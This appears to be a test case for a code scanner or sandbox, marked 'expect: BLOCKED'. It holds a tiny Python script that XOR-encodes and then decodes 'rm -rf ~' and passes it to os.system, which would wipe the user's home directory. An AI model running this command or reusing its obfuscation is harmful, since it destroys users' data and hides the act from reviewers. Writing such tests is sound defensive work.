# expect: BLOCKED
import os
def d(s, k):
    return "".join(chr(ord(c) ^ k) for c in s)
os.system(d(d("rm -rf ~", 5), 5))
